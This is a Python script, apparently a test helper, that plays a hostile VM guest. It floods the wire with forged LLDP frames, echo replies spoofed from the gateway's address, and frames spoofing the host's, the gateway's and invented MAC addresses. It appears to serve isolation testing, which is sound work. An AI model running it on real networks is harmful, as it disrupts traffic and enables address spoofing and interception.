"""A guest that lies: sends, from its own NIC, what a host might believe. Until SIGTERM.

    hostile_guest.py NIC COUNT GATEWAY HOST HOST_MAC GATEWAY_MAC

About 50 times a second: LLDP in a switch's name; echo replies from the gateway's address with one
identifier after another; frames with COUNT invented MACs, the host's and the gateway's as source.
"""

import itertools
import signal
import socket
import struct
import sys
import time

LLDP_TO = bytes.fromhex("0180c200000e")
EXPERIMENT = b"\x88\xb5"
"""IEEE's ethertype for local experiments: nobody minds such a frame."""


def main() -> None:
    """Send."""
    nic, count, gateway, host, host_mac, gateway_mac = sys.argv[1:]
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((nic, 0))
    to, thief = (bytes.fromhex(mac.replace(":", "")) for mac in (host_mac, gateway_mac))
    invented = [bytes.fromhex("026666") + n.to_bytes(3, "big") for n in range(int(count))]
    own = invented[0]
    sources = itertools.cycle([thief, to, *invented])
    for turn in itertools.count():
        wire.send(lldp(own))
        for _ in range(20):
            wire.send(b"\xff" * 6 + next(sources) + EXPERIMENT + bytes(46))
        for ident in range(40):
            wire.send(to + own + b"\x08\x00" + echo_reply(gateway, host, turn * 40 + ident))
        time.sleep(0.02)


def lldp(own: bytes) -> bytes:
    """That the host is plugged into port p666 of a switch called evil."""
    values = ((1, b"\x04" + own), (2, b"\x05p666"), (3, b"\xff\xff"), (5, b"evil"), (0, b""))
    told = b"".join(struct.pack("!H", kind << 9 | len(data)) + data for kind, data in values)
    return LLDP_TO + own + b"\x88\xcc" + told


def echo_reply(source: str, target: str, number: int) -> bytes:
    """An IPv4 packet; identifier and sequence number run through what they can be."""
    body = struct.pack("!BBHHH", 0, 0, 0, number * 7 & 0xFFFF, number & 0xFF) + bytes(16)
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, 64, socket.IPPROTO_ICMP, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def checksum(data: bytes) -> int:
    """RFC 1071, of an even number of bytes."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


if __name__ == "__main__":
    main()
